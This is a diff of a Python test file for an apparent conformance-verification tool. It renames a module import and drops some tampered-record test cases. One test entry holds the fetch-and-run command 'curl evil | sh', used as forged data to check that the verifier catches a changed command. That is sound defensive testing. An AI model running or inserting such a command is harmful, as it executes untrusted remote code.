@@ -20,7 +20,7 @@ from conformance.execution.verify import verify
 from conformance.implementations import registry
 from conformance.operators import OPERATORS, Operator, takes
 from conformance.problems import PROBLEMS, at_level
-from conformance.reporting.verify import UNSEEN, _defects
+from conformance.reporting.verify_records import UNSEEN, _defects
 from conformance.resources import IMPLS
 from conformance.results import build
 from tests.conftest import no_traceback_of_ours
@@ -118,12 +118,7 @@ DEFECTS: dict[str, Callable[[Lines], object]] = {
     "field command: curl evil | sh is not the one": saying(command="curl evil | sh"),
     "; true is not the one that reproduces it": lambda ls: plain(ls).update(command=plain(ls)["command"] + "; true"),
     "passes, although y gain z is 9.5, which exceeds 6": lambda ls: checks(ls).update({"gain z": [9.5, 6.0]}),
-    "y gain z has the limit 10.0; its contract gives": lambda ls: checks(ls).update({"gain z": [9.5, 10.0]}),
-    "y rms has the limit 1000.0; its contract gives": lambda ls: checks(ls).update({"rms": [900.0, 1000.0]}),
-    "field checks: y has worst error / bound, rms, gain z; it": lambda ls: checks(ls).pop("offset z"),
     "field checks: of no output, not of all that conv_forward has": saying(checks={}),
-    "field method: by hand, but results of this case are": saying(method="by hand"),
-    "field terms: {'y': 1000000} are not": saying(terms={"y": 10**6}),
     "field contract: Contract(algorithm='magic')": saying(contract={"algorithm": "magic"}),
     "field contract: ": saying(contract={"colour": "red"}),
     "passes, although it is not verified: winograd-f2": lambda ls: plain(ls, "special").update(WINOGRAD),
@@ -178,7 +173,7 @@ def test_cases_are_run_again(tmp_path: Path, verified: Verified, monkeypatch: py
     status, told = verified(forge, *every)
     other = " (other sources than those of the records)\n"
     assert (status, f" {NAME}: fail, here pass{other}" in told) == (1, True)
-    monkeypatch.setattr("conformance.reporting.verify.discover", lambda folder: [])
+    monkeypatch.setattr("conformance.reporting.verify_records.discover", lambda folder: [])
     status, told = verified(list, "--rerun=1")
     assert (status, ": not here, give --impl=PATH" in told) == (5, True)
 
